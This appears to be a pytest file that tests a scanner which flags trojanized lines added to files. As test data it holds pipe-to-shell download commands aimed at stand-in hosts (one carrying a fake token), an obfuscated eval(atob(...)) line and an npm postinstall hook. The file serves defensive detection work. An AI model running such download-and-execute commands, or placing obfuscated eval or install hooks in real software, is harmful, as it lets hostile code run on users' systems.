"""Policy rules over the lines an altered file adds: trojanized copies."""

from __future__ import annotations

from tests.rules.conftest import ghp
from triage.rules import trojanized


def test_download_and_execute_is_flagged(builtin):
    hits = builtin.scan_added("tools/build.sh", [(12, "curl http://x | sh")])
    assert [(h["rule"], h["line"], h["scope"], h["kind"]) for h in hits] == [
        ("policy-pipe-to-shell", 12, "added", "policy")]
    assert hits[0]["excerpt"] == "curl http://x | sh"
    assert trojanized(hits)


def test_obfuscated_eval_is_flagged(builtin):
    added = [(3, "const x = 1;"), (40, "eval(atob('Y29uc29sZS5sb2coMSk='));")]
    hits = builtin.scan_added("lib/index.js", added)
    assert [(h["rule"], h["line"]) for h in hits] == [("policy-obfuscated-eval", 40)]


def test_ordinary_added_code_is_not_flagged(builtin):
    added = list(enumerate([
        "def total(items):",
        "    return sum(i.price for i in items)",
        "result = eval(expression, namespace)",
        "data = json.loads(base64.b64decode(payload))",
        "# see https://docs.python.org/3/library/functions.html",
        "HOST = '127.0.0.1'",
        "subprocess.run(['curl', '-o', 'out.tgz', url], check=True)",
    ], 100))
    hits = builtin.scan_added("src/app/util.py", added)
    assert hits == [] and not trojanized(hits)


def test_install_hooks_only_where_they_run(builtin):
    line = [(7, '    "postinstall": "node scripts/x.js",')]
    assert [h["rule"] for h in builtin.scan_added("pkg/package.json", line)] == ["policy-npm-install-hook"]
    assert builtin.scan_added("pkg/README.md", line) == []


def test_secret_inside_a_policy_excerpt_is_redacted(builtin):
    tok = ghp(5)
    line = f"curl -H 'Authorization: token {tok}' https://x.example.net/i | sh"
    hits = builtin.scan_added("ci.sh", [(1, line)])
    assert [h["rule"] for h in hits] == ["policy-pipe-to-shell"]
    assert tok not in hits[0]["excerpt"] and tok[:4] + "…" + tok[-4:] in hits[0]["excerpt"]


def test_no_added_lines(builtin):
    assert builtin.scan_added("a.py", []) == []
